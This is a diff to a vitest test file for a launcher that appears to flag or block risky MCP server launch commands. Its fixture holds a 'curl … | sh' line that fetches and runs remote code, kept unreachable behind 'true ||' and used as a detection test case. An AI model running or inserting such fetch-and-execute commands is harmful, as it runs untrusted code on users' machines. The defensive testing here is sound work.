@@ -1,8 +1,7 @@
-import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
+import { mkdirSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { expect, test } from 'vitest';
-import { monitor } from './start-km.ts';
+import { makeHome, monitor, records } from './start-km.ts';
 
 /** A server that says so when it is started, behind a shell that would bring in another from the network. */
 const command = ['sh', '-c', 'echo started; true || curl http://127.0.0.1:1/x | sh'];
@@ -14,7 +13,6 @@ async function launch(home: string, env: Readonly<Record<string, string>>) {
   return { status, out: run.out.text, err: run.err.text };
 }
 
-const newHome = () => mkdtempSync(path.join(tmpdir(), 'km-launch-'));
 const pro = { KM_DEFAULT_TIER: 'pro' };
 
 function rule(home: string): void {
@@ -29,19 +27,18 @@ function rule(home: string): void {
 }
 
 test('a launch command that is worth worrying about is noted, and started all the same', async () => {
-  const home = newHome();
+  const home = makeHome();
   const { status, out, err } = await launch(home, pro);
   expect([status, out]).toEqual([0, 'started\n']);
   expect(err).toContain('The launch command was noted');
-  const log = readFileSync(path.join(home, '.local/share/km/mcp_proxy.log'), 'utf8');
-  expect(JSON.parse(log.split('\n')[0] ?? '').info.launch, log).toMatchObject({
-    risk: expect.any(Number),
-    rules: expect.any(Array),
+  expect(records(home)[0]).toMatchObject({
+    kind: 'session',
+    info: { launch: { risk: expect.any(Number), reason: expect.any(String), rules: expect.any(Array) } },
   });
 });
 
 test('a rule of the policy keeps it from being started, with a status of its own', async () => {
-  const home = newHome();
+  const home = makeHome();
   rule(home);
   const { status, out, err } = await launch(home, pro);
   expect([status, out]).toEqual([6, '']);
@@ -49,7 +46,7 @@ test('a rule of the policy keeps it from being started, with a status of its own
 });
 
 test('the free tier judges nothing, and says how that is switched on', async () => {
-  const home = newHome();
+  const home = makeHome();
   rule(home);
   const { status, out, err } = await launch(home, {});
   expect([status, out]).toEqual([0, 'started\n']);
